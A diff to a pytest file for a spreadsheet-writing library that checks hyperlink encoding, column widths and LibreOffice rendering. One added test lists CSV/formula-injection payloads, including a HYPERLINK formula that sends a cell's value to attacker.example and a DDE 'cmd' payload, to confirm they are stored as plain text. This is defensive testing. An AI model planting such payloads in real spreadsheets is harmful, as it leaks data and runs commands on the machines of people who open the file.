@@ -5,9 +5,11 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import re
 import shutil
 import zipfile
 from pathlib import Path
+from urllib.parse import unquote
 
 import openpyxl
 import pytest
@@ -57,15 +59,17 @@ def test_values_styles_links_and_layout_read_back_with_openpyxl():
     assert sheet["A4"].fill.fill_type is None
     assert sheet["D3"].number_format == sheet["D4"].number_format == "yyyy-mm-dd"
     assert sheet["B3"].number_format == "General"
-    assert sheet["C3"].hyperlink.target == "Nguyen, Zoe/Plan 2026.docx" and sheet["C3"].font.underline == "single"
-    assert sheet["C5"].hyperlink.target == 'https://docs.google.com/document/d/abc/edit?a=1&b="2"<'
+    # a relative link as Excel writes one (backslashes, spaces escaped); Calc reads it as the folder's file
+    assert sheet["C3"].hyperlink.target == "Nguyen,%20Zoe\\Plan%202026.docx" and sheet["C3"].font.underline == "single"
+    assert sheet["C5"].hyperlink.target == "https://docs.google.com/document/d/abc/edit?a=1&b=%222%22%3C"
     assert sheet["C4"].hyperlink is None
     assert sheet.freeze_panes == "A3" and sheet.auto_filter.ref == "A2:D5"
     assert sheet.oddHeader.center.text == "Confidential && private"  # "&&" is how a header prints one "&"
-    assert [sheet.column_dimensions[c].width for c in "ABCD"] == [20, 8, 30, 12]
+    # widths as Excel's Column Width dialog shows them: the file adds the cell padding (5 px of 7, in 1/256)
+    assert [sheet.column_dimensions[c].width for c in "ABCD"] == [w + 182 / 256 for w in (20, 8, 30, 12)]
     with zipfile.ZipFile(io.BytesIO(data)) as archive:  # Excel keeps a filter's range under a hidden name too
         assert (
-            '<definedName name="_xlnm._FilterDatabase" localSheetId="0" hidden="1">\'Caseload\'!$A$2:$D$5</definedName>'
+            '<definedName name="_xlnm._FilterDatabase" localSheetId="0" hidden="1">Caseload!$A$2:$D$5</definedName>'
         ) in archive.read("xl/workbook.xml").decode()
 
 
@@ -107,3 +111,29 @@ def test_libreoffice_calc_opens_it_and_shows_what_was_written(tmp_path: Path):
         ["Liam O'Brien", "", "", "2027-01-05"],
         ["Ana", "-1.5", 'https://docs.google.com/document/d/abc/edit?a=1&b="2"<', ""],
     ]
+    (page,) = convert_with_libreoffice([path], tmp_path / "html", target="html")
+    links = re.findall(r'href="([^"]+)"', page.read_text(encoding="utf-8"))  # where Calc takes a click
+    assert [unquote(link) for link in links if link.startswith("file:")] == [
+        "file://" + str(tmp_path / "Nguyen, Zoe/Plan 2026.docx")
+    ]
+
+
+def test_text_that_looks_like_a_formula_a_number_or_a_link_stays_text():
+    payloads = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2", "@SUM(1)"]
+    sheet = SimpleSheet("Caseload")
+    sheet.append([*payloads, "http://example.org/", "0042"])
+    data = sheet.save()
+    cells = openpyxl.load_workbook(io.BytesIO(data)).active[1]
+    assert [c.value for c in cells] == [*payloads, "http://example.org/", "0042"]
+    assert all(c.data_type == "s" and c.hyperlink is None for c in cells)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+
+
+def test_links_excel_cannot_hold_stay_text_and_a_path_keeps_its_percent_and_hash():
+    sheet = SimpleSheet("Caseload")
+    too_long = "https://docs.google.com/document/d/" + "x" * 2100
+    sheet.append(["100% #1/Plan.docx", too_long], 0, {0: "100% #1/Plan.docx", 1: too_long})
+    cells = openpyxl.load_workbook(io.BytesIO(sheet.save())).active[1]
+    assert cells[0].hyperlink.target == "100%25%20%231\\Plan.docx"
+    assert cells[1].value == too_long and cells[1].hyperlink is None
